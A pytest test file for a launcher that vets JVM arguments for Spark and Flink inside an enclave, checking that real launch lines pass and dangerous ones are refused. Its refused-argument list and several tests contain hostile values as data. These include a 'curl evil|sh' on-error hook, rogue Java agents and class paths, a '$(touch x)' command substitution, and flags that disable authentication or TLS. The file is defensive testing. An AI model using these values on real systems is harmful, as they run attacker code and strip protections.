"""The measured launcher: what Spark and Flink really say passes, what attackers say does not."""

from __future__ import annotations

import importlib.util
import json
import os
import shutil
import signal
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from strongroom.deploy.gramine.java_script import java_script
from strongroom.launcher.launch import MAX_BYTES, MAX_WORDS, check, read_words
from strongroom.launcher.roles import LaunchArgumentRefused, Role, Settings

LIMIT_S = 60
PROGRAM = ("--class", "org.apache.spark.examples.SparkPi", "local:///opt/spark/examples/jars/spark-examples.jar")


def settings(role):
    home = "/opt/spark" if role.is_spark else "/opt/flink"
    return Settings(
        role=role,
        java="/opt/java/bin/java",
        home=home,
        scratch="/local",
        max_heap_mib=2048,
        program=PROGRAM if role is Role.SPARK_DRIVER else (),
    )


OPENS = [
    f"--add-opens=java.base/{each}=ALL-UNNAMED"
    for each in (
        "java.lang",
        "java.lang.invoke",
        "java.nio",
        "java.util.concurrent.atomic",
        "jdk.internal.ref",
        "sun.nio.ch",
    )
]
SPARK_OPENS = [
    "-Djava.net.preferIPv6Addresses=false",
    "-XX:+IgnoreUnrecognizedVMOptions",
    *OPENS,
    "--add-opens=java.security.jgss/sun.security.krb5=ALL-UNNAMED",
    "-Djdk.reflect.useDirectMethodHandle=false",
]
SPARK_4 = [
    "-XX:+IgnoreUnrecognizedVMOptions",
    "--add-modules=jdk.incubator.vector",
    *OPENS,
    "-Dio.netty.tryReflectionSetAccessible=true",
    "-Dio.netty.allocator.type=pooled",
    "-Dio.netty.noUnsafe=false",
    "-Dio.netty.handler.ssl.defaultEndpointVerificationAlgorithm=NONE",
    "--enable-native-access=ALL-UNNAMED",
    "--sun-misc-unsafe-memory-access=allow",
]
CLASS_PATH = "/opt/spark/conf/:/opt/spark/jars/slf4j-api-2.0.7.jar:/opt/spark/jars/*"
EXECUTOR = [
    "org.apache.spark.executor.CoarseGrainedExecutorBackend",
    "--driver-url",
    "spark://CoarseGrainedScheduler@driver-svc.spark.svc:7078",
    "--executor-id",
    "0",
    "--hostname",
    "10.244.0.7",
    "--cores",
    "2",
    "--app-id",
    "app-20260101120000-0000",
    "--worker-url",
    "spark://Worker@10.244.0.7:45123",
]
KUBERNETES_EXECUTOR = [
    "org.apache.spark.scheduler.cluster.k8s.KubernetesExecutorBackend",
    "--driver-url",
    "spark://CoarseGrainedScheduler@spark-pi-driver-svc.default.svc:7078",
    "--executor-id",
    "1",
    "--cores",
    "1",
    "--app-id",
    "spark-7b3f0a",
    "--hostname",
    "10.244.0.9",
    "--resourceProfileId",
    "0",
    "--podName",
    "spark-pi-exec-1",
]
DRIVER = [
    "org.apache.spark.deploy.SparkSubmit",
    "--deploy-mode",
    "client",
    "--conf",
    "spark.driver.bindAddress=10.244.0.5",
    "--properties-file",
    "/opt/spark/conf/spark.properties",
]
FLINK_OPENS = [
    "-XX:+IgnoreUnrecognizedVMOptions",
    "--add-exports=java.rmi/sun.rmi.registry=ALL-UNNAMED",
    "--add-exports=jdk.compiler/com.sun.tools.javac.api=ALL-UNNAMED",
    *OPENS,
]
FLINK_LOGS = [
    "-Dlog.file=/local/log/flink-taskexecutor-0.log",
    "-Dlog4j.configuration=file:/opt/flink/conf/log4j.properties",
    "-Dlog4j.configurationFile=file:/opt/flink/conf/log4j.properties",
    "-Dlogback.configurationFile=file:/opt/flink/conf/logback.xml",
]
TASKMANAGER = [
    "org.apache.flink.runtime.taskexecutor.TaskManagerRunner",
    "--configDir",
    "/opt/flink/conf",
    "-D",
    "taskmanager.memory.network.min=134217730b",
    "-D",
    "taskmanager.cpu.cores=2.0",
    "-D",
    "taskmanager.memory.task.off-heap.size=0b",
    "-D",
    "taskmanager.memory.jvm-metaspace.size=268435456b",
    "-D",
    "external-resources=none",
    "-D",
    "taskmanager.memory.jvm-overhead.min=201326592b",
    "-D",
    "taskmanager.memory.framework.off-heap.size=134217728b",
    "-D",
    "taskmanager.memory.network.max=134217730b",
    "-D",
    "taskmanager.memory.framework.heap.size=134217728b",
    "-D",
    "taskmanager.memory.managed.size=536870920b",
    "-D",
    "taskmanager.memory.task.heap.size=402653174b",
    "-D",
    "taskmanager.numberOfTaskSlots=2",
    "-D",
    "taskmanager.memory.jvm-overhead.max=201326592b",
]
JOBMANAGER = [
    "org.apache.flink.runtime.entrypoint.StandaloneSessionClusterEntrypoint",
    "--configDir",
    "/opt/flink/conf",
    "--executionMode",
    "cluster",
    "-D",
    "jobmanager.memory.off-heap.size=134217728b",
    "-Djobmanager.memory.jvm-overhead.min=201326592b",
    "-D",
    "jobmanager.memory.heap.size=1073741824b",
]
FLINK_MEMORY = ["-Xmx536870902", "-Xms536870902", "-XX:MaxDirectMemorySize=268435458", "-XX:MaxMetaspaceSize=268435456"]
FLINK_CLASS_PATH = "/opt/flink/lib/flink-cep-1.18.1.jar:/opt/flink/lib/flink-dist-1.18.1.jar:::"
REAL = {
    "Spark 3.5, standalone executor": (
        Role.SPARK_EXECUTOR,
        ["-cp", CLASS_PATH, "-Xmx1024M", "-Dspark.driver.port=7078", *SPARK_OPENS, *EXECUTOR],
    ),
    "Spark 4, executor on Kubernetes": (
        Role.SPARK_EXECUTOR,
        [
            *SPARK_4,
            "-Dspark.driver.port=7078",
            "-Dspark.authenticate=true",
            "-Xms1g",
            "-Xmx1g",
            "-cp",
            CLASS_PATH,
            *KUBERNETES_EXECUTOR,
        ],
    ),
    "Spark 3.5, driver on Kubernetes": (
        Role.SPARK_DRIVER,
        ["-cp", CLASS_PATH, "-Xmx1408m", *SPARK_OPENS, *DRIVER, *PROGRAM],
    ),
    "Spark, driver without its program": (Role.SPARK_DRIVER, ["-cp", CLASS_PATH, *DRIVER]),
    "Flink, task manager": (
        Role.FLINK_TASKMANAGER,
        [*FLINK_MEMORY, *FLINK_OPENS, *FLINK_LOGS, "-classpath", FLINK_CLASS_PATH, *TASKMANAGER],
    ),
    "Flink, job manager": (
        Role.FLINK_JOBMANAGER,
        ["-Xmx1073741824", "-Xms1073741824", "-XX:+UseG1GC", *FLINK_OPENS, "-classpath", FLINK_CLASS_PATH, *JOBMANAGER],
    ),
}


@pytest.mark.parametrize(("role", "words"), REAL.values(), ids=REAL)
def test_what_spark_and_flink_really_say_passes(role, words):
    launch = check(words, settings(role))
    assert launch.argv[0] == "/opt/java/bin/java"
    assert "-XX:+DisableAttachMechanism" in launch.argv
    assert not any("NONE" in word for word in launch.argv)
    assert ":::" not in " ".join(launch.argv)
    if role is Role.SPARK_DRIVER:
        assert launch.argv[-3:] == PROGRAM
        assert launch.argv.count("--class") == 1


REFUSED = {
    "-javaagent:/tmp/evil.jar": "code",
    "-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005": "code",
    "-agentpath:/tmp/evil.so": "code",
    "-Xbootclasspath/a:/tmp/evil.jar": "code",
    "-XX:OnOutOfMemoryError=curl evil|sh": "command",
    "-XX:OnError=touch /x": "command",
    "-XX:CompileCommand=quiet": "command",
    "-XX:Flags=/tmp/flags": "options from a file",
    "-XX:VMOptionsFile=/tmp/flags": "options from a file",
    "@/tmp/argfile": "options from a file",
    "-jar": "code",
    "-Xdebug": "look into",
    "-XX:+HeapDumpOnOutOfMemoryError": "look into",
    "-XX:-DisableAttachMechanism": "look into",
    "-XX:ErrorFile=/host/x": "look into",
    "-XX:ReplayDataFile=/host/x": "look into",
    "-XX:+CreateCoredumpOnCrash": "look into",
    "-XX:SharedArchiveFile=/tmp/cds": "code",
    "-Djava.system.class.loader=evil.Loader": "code",
    "-Djava.library.path=/tmp": "code",
    "-Djava.security.properties=/tmp/x": "chooses whom",
    "-Djavax.net.ssl.trustStore=/tmp/x": "chooses whom",
    "-Dcom.sun.management.jmxremote.port=9999": "look into",
    "-Djdk.tls.client.protocols=TLSv1": "turns a protection off",
    "-Dlog4j2.configurationFile=file:/tmp/evil.xml": "code",
    "-Dlog4j.configurationFile=file:/opt/spark/conf/a,/tmp/b": "code",
    "-Dlog4j.configurationFile=file:/opt/spark/conf/%2e%2e/b": "code",
    "-Dspark.authenticate=false": "turns a protection off",
    "-Dspark.authenticate.secret=hunter2": "secrets on a command line",
    "-Dspark.network.crypto.enabled=false": "turns a protection off",
    "-Dspark.ssl.trustStore=/tmp/x": "chooses whom",
    "-Dspark.executor.extraClassPath=/tmp/evil.jar": "code",
    "-Dspark.plugins=evil.Plugin": "code",
    "-Djava.io.tmpdir=/host": "untrusted side likes",
    "--patch-module=java.base=/tmp": "code",
    "--module-path=/tmp": "code",
    "-XX:+UnlockDiagnosticVMOptions": "turns a protection off",
    "-XX:+SomethingNew": "not among those allowed",
    "-XX:TieredStopAtLevel=0": "not among those allowed",
    "-XX:TieredStopAtLevel=5": "not among those allowed",
    "-Dsomething.new=1": "not among those allowed",
    "-Dspark.driver.port": "not allowed",
    "-Dspark.driver.port=70000": "not allowed",
    "-Xmx": "no size",
    "-Xmx1z": "no size",
    "-Xmx1": "no size",
    "-": "not among those allowed",
}


@pytest.mark.parametrize(("word", "why"), REFUSED.items(), ids=REFUSED)
def test_what_chooses_code_or_turns_protection_off_is_refused_with_its_reason(word, why):
    with pytest.raises(LaunchArgumentRefused, match=why) as caught:
        check(["-cp", CLASS_PATH, word, *EXECUTOR], settings(Role.SPARK_EXECUTOR))
    assert caught.value.code == "SR-LAUNCH-ARGUMENT"
    assert "hunter2" not in str(caught.value)


def py4j_jar():
    spec = importlib.util.find_spec("pyspark")
    return None if spec is None else next(Path(spec.origin).parent.glob("jars/py4j-*.jar"))


@pytest.mark.skipif(shutil.which("java") is None, reason="there is no Java on this machine")
@pytest.mark.skipif(py4j_jar() is None, reason="PySpark is not installed")
def test_kd_22_a_jvm_that_crashes_writes_what_it_had_in_memory_where_its_secrets_are_and_nowhere_else(tmp_path):
    memory, here = tmp_path / "memory", tmp_path / "here"
    memory.mkdir()
    here.mkdir()
    told = replace(settings(Role.SPARK_EXECUTOR), java=shutil.which("java"), temporary=str(memory))
    words = check(["-cp", CLASS_PATH, *EXECUTOR], told).argv
    options = list(words[: words.index(EXECUTOR[0])])
    options[options.index("-cp") + 1] = str(py4j_jar())
    waiting = [*options, "py4j.GatewayServer", "--die-on-broken-pipe", "0"]  # says its port, and waits
    with subprocess.Popen(
        waiting, cwd=here, env={"CANARY": "in-memory"}, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    ) as java:  # fmt: skip
        try:
            assert int(java.stdout.readline()) > 0
            java.send_signal(signal.SIGSEGV)
            java.wait(LIMIT_S)
        finally:
            java.kill()
    assert java.returncode not in {0, -signal.SIGKILL}
    assert b"SIGSEGV" in (memory / "java_error.log").read_bytes()
    assert not list(here.iterdir())


@pytest.mark.parametrize(
    "path",
    [
        "/tmp/evil.jar",
        "/opt/spark/../../tmp/evil.jar",
        "/opt/sparkling/evil.jar",
        "/opt/spark*",
        "/opt/spark/jars/*.jar",
        "evil.jar",
        "/opt/spark//x",
        ".",
        "/opt/*",
        "/opt/spark/./x.jar",
        "/opt/spark/jars/a b.jar",
        "",
        ":::",
    ],
)
def test_a_class_path_leads_to_measured_files_only(path):
    with pytest.raises(LaunchArgumentRefused, match="class path"):
        check(["-cp", path, *EXECUTOR], settings(Role.SPARK_EXECUTOR))


def test_empty_entries_of_a_class_path_go_since_they_are_the_working_folder():
    launch = check(["-cp", ":/opt/spark/jars/*::", *EXECUTOR], settings(Role.SPARK_EXECUTOR))
    assert launch.argv[launch.argv.index("-cp") + 1] == "/opt/spark/jars/*"


@pytest.mark.parametrize(
    ("given", "wanted"),
    [
        (["-Xmx8g"], ["-Xmx2048m"]),
        (["-Xmx1g"], ["-Xmx1g"]),
        (["-Xms3g", "-Xmx1g"], ["-Xms1073741824", "-Xmx1g"]),
        ([], ["-Xmx2048m"]),
        (["-Xss1g"], ["-Xss16m", "-Xmx2048m"]),
        (["-XX:MaxDirectMemorySize=99999999999"], ["-XX:MaxDirectMemorySize=2048m", "-Xmx2048m"]),
    ],
)
def test_sizes_are_brought_down_to_what_the_enclave_holds(given, wanted):
    launch = check([*given, *EXECUTOR], settings(Role.SPARK_EXECUTOR))
    options = launch.argv[1 : launch.argv.index("-XX:+DisableAttachMechanism")]
    assert list(options) == wanted
    assert len(launch.notices) == sum(word not in wanted for word in given)


@pytest.mark.parametrize("name", ["spark.properties", "spark-defaults.conf.template", "log4j2.properties"])
def test_no_other_measured_file_stands_in_for_the_settings_that_protect_a_driver(name):
    words = changed(DRIVER, DRIVER[-1], f"/opt/spark/conf/{name}")
    launch = check(["-cp", CLASS_PATH, *words], settings(Role.SPARK_DRIVER))
    assert "--properties-file" not in launch.argv
    assert not any(name in word for word in launch.argv)
    assert any("--properties-file is left out" in notice for notice in launch.notices)


@pytest.mark.parametrize("name", ["Spark 3.5, standalone executor", "Spark 3.5, driver on Kubernetes"])
def test_no_jvm_of_spark_talks_to_anybody_without_the_jobs_secret(name):
    role, words = REAL[name]
    launch = check(words, settings(role))
    main = next(index for index, word in enumerate(launch.argv) if word.startswith("org.apache.spark."))
    options = launch.argv[:main]
    assert "-Dspark.authenticate=true" in options
    assert "-Dspark.authenticate.secret.file=/data/spark_secret" in options
    assert "-Dspark.network.crypto.enabled=true" in options


@pytest.mark.parametrize("name", ["Flink, task manager", "Flink, job manager"])
def test_no_jvm_of_flink_takes_a_job_or_a_message_from_somebody_without_a_certificate(name):
    role, words = REAL[name]
    after = check(words, settings(role)).argv[-3:]
    assert after == (
        "-Dsecurity.ssl.internal.enabled=true",
        "-Dsecurity.ssl.rest.enabled=true",
        "-Dsecurity.ssl.rest.authentication-enabled=true",
    )


def changed(words, old, new):
    assert old in words
    return [new if word == old else word for word in words]


@pytest.mark.parametrize(
    ("role", "words"),
    [
        (Role.SPARK_EXECUTOR, changed(EXECUTOR, EXECUTOR[0], "evil.Main")),
        (Role.SPARK_EXECUTOR, DRIVER),
        (Role.SPARK_EXECUTOR, changed(EXECUTOR, "--worker-url", "--resourcesFile")),
        (Role.SPARK_EXECUTOR, changed(EXECUTOR, EXECUTOR[2], "spark://evil:1")),
        (Role.SPARK_EXECUTOR, changed(EXECUTOR, EXECUTOR[2], "http://CoarseGrainedScheduler@h:1")),
        (Role.SPARK_EXECUTOR, changed(EXECUTOR, "0", "../../etc")),
        (Role.SPARK_EXECUTOR, changed(EXECUTOR, "2", "-1")),
        (Role.SPARK_EXECUTOR, [*EXECUTOR, "--cores"]),
        (Role.SPARK_EXECUTOR, EXECUTOR[:3]),
        (Role.SPARK_EXECUTOR, EXECUTOR[:1]),
        (Role.SPARK_DRIVER, [*DRIVER, "--jars", "/tmp/evil.jar"]),
        (Role.SPARK_DRIVER, [*DRIVER, "--class", "evil.Main", "local:///tmp/evil.jar"]),
        (Role.SPARK_DRIVER, [*DRIVER, *PROGRAM, "one more"]),
        (Role.SPARK_DRIVER, [*DRIVER, "--conf", "spark.jars=/tmp/evil.jar"]),
        (Role.SPARK_DRIVER, [*DRIVER, "--driver-java-options", "-javaagent:x"]),
        (Role.SPARK_DRIVER, changed(DRIVER, DRIVER[-1], "/tmp/spark.properties")),
        (Role.FLINK_TASKMANAGER, changed(TASKMANAGER, "/opt/flink/conf", "/opt/flink/conf/other")),
        (Role.FLINK_TASKMANAGER, changed(TASKMANAGER, "/opt/flink/conf", "/tmp/conf")),
        (Role.FLINK_TASKMANAGER, [*TASKMANAGER, "-D", "env.java.opts.all=-javaagent:x"]),
        (Role.FLINK_TASKMANAGER, [*TASKMANAGER, "-Dclassloader.parent-first-patterns.additional=evil"]),
        (Role.FLINK_TASKMANAGER, [*TASKMANAGER, "-Dsecurity.ssl.internal.enabled=false"]),
        (Role.FLINK_TASKMANAGER, [*TASKMANAGER, "-Dtaskmanager.memory.managed.size=9999999g"]),
        (Role.FLINK_TASKMANAGER, [*TASKMANAGER, "-D"]),
        (Role.FLINK_JOBMANAGER, [*JOBMANAGER, "-Dpipeline.classpaths=file:///tmp/evil.jar"]),
        (Role.FLINK_JOBMANAGER, changed(JOBMANAGER, "cluster", "local")),
    ],
)
def test_words_after_the_main_class_are_checked_too(role, words):
    with pytest.raises(LaunchArgumentRefused):
        check(words, settings(role))


def test_a_driver_without_a_measured_program_does_not_start():
    bare = Settings(role=Role.SPARK_DRIVER, java="/j", home="/opt/spark", scratch="/local", max_heap_mib=64)
    with pytest.raises(LaunchArgumentRefused, match="names no program"):
        check(DRIVER, bare)


@pytest.mark.parametrize(
    "words", [[], ["-Xmx1g"], ["-cp"], ["x"] * (MAX_WORDS + 1), ["x" * (MAX_BYTES + 1)], ["a\n"], ["ä"]]
)
def test_no_command_line_and_too_much_of_one_are_refused(words):
    with pytest.raises(LaunchArgumentRefused):
        check(words, settings(Role.SPARK_EXECUTOR))


@pytest.mark.parametrize("data", [b"x", b"a\0b", b"\xff\0", b"x" * (MAX_BYTES + 1)])
def test_a_command_line_that_was_cut_or_is_no_text_is_refused(data):
    with pytest.raises(LaunchArgumentRefused):
        read_words(data)


def test_it_starts_with_the_standard_library_alone():
    words = "import strongroom.launcher.__main__, sys; print(*sorted({m.split('.')[0] for m in sys.modules}))"
    found = subprocess.run(
        [sys.executable, "-I", "-S", "-c", f"import sys; sys.path.append({os.path.abspath('src')!r}); {words}"],  # noqa: PTH100
        capture_output=True,
        text=True,
        check=True,
        timeout=LIMIT_S,
    ).stdout.split()
    foreign = set(found) - set(sys.stdlib_module_names) - {"strongroom", "__main__", "sitecustomize", "usercustomize"}
    assert {name for name in foreign if not name.startswith("_")} == set()
    assert not {"socket", "asyncio", "cryptography", "numpy"} & set(found)


@pytest.fixture
def java(tmp_path):
    """A program in the place of Java that writes down how it was started, and the script in front of the launcher."""
    program = tmp_path / "bin" / "java"
    program.parent.mkdir()
    program.write_text(
        f"#!{sys.executable} -I\nimport json, os, sys\nprint(json.dumps([sys.argv, dict(os.environ)]))\n",
        encoding="ascii",
    )
    program.chmod(0o755)
    launcher = [
        sys.executable,
        "-I",
        "-B",
        "-m",
        "strongroom.launcher",
        "--role=spark-executor",
        f"--java={program}",
        "--home=/opt/spark",
        "--scratch=/local",
        "--max-heap-mib=512",
        "--words-from=-",
    ]
    script = tmp_path / "java"
    script.write_text(java_script("spark-executor", " ".join(launcher)), encoding="ascii")
    script.chmod(0o755)
    return script


def test_java_starts_with_checked_words_and_an_environment_of_its_own(java):
    words = ["-cp", CLASS_PATH, "-Xmx1g", *SPARK_OPENS, *EXECUTOR]
    environment = {**os.environ, "JAVA_TOOL_OPTIONS": "-javaagent:evil.jar", "LD_LIBRARY_PATH": "/tmp"}
    done = subprocess.run([java, *words], capture_output=True, text=True, env=environment, timeout=LIMIT_S, check=False)
    assert done.returncode == 0, done.stderr
    argv, seen = json.loads(done.stdout)
    assert argv[1:] == [*check([*words[:2], "-Xmx512m", *words[3:]], settings(Role.SPARK_EXECUTOR)).argv[1:]]
    assert set(seen) - {"LC_CTYPE"} == {
        "HOME",
        "JAVA_HOME",
        "LANG",
        "SPARK_HOME",
        "SPARK_LOCAL_DIRS",
        "SPARK_USER",
        "TMPDIR",
    }
    assert "-Xmx1g is -Xmx512m here" in done.stderr


def test_java_does_not_start_for_a_word_that_is_refused(java):
    words = ["-cp", CLASS_PATH, "-XX:OnOutOfMemoryError=kill -9 %p", *EXECUTOR]
    done = subprocess.run([java, *words], capture_output=True, text=True, timeout=LIMIT_S, check=False)
    assert done.returncode == 3
    assert done.stdout == ""
    assert "[SR-LAUNCH-ARGUMENT]" in done.stderr


def test_a_word_with_blanks_and_quotes_arrives_as_one_word(java):
    done = subprocess.run(
        [java, '-Dspark.app.name=a\'b "c" $(touch x)', *EXECUTOR],
        capture_output=True,
        text=True,
        timeout=LIMIT_S,
        check=False,
    )
    assert done.returncode == 3
    assert "-Dspark.app.name has a value" in done.stderr


def test_a_java_that_is_not_there_is_said(java, tmp_path):
    (tmp_path / "bin" / "java").unlink()
    done = subprocess.run([java, *EXECUTOR], capture_output=True, text=True, timeout=LIMIT_S, check=False)
    assert done.returncode == 2
    assert "does not start" in done.stderr


@pytest.mark.skipif(shutil.which("java") is None, reason="there is no JVM on this machine")
@pytest.mark.parametrize(("role", "words"), REAL.values(), ids=REAL)
def test_a_real_jvm_takes_the_checked_words_and_reads_no_options_from_the_environment(role, words):
    launch = [sys.executable, "-I", "-B", "-m", "strongroom.launcher", f"--role={role}", "--max-heap-mib=512"]
    launch += [f"--java={shutil.which('java')}", f"--home={settings(role).home}", "--scratch=/local"]
    program = [] if role is not Role.SPARK_DRIVER else ["--program-from=/dev/stdin"]
    done = subprocess.run(
        [*launch, *program, "--", *words],
        input=b"".join(word.encode() + b"\0" for word in PROGRAM),
        capture_output=True,
        env={**os.environ, "JAVA_TOOL_OPTIONS": "-javaagent:/nonexistent.jar", "JDK_JAVA_OPTIONS": "-Dnone"},
        timeout=LIMIT_S,
        check=False,
    )
    said = done.stderr.decode()
    assert "Could not find or load main class org.apache." in said  # so it understood every option before
    assert "Picked up" not in said
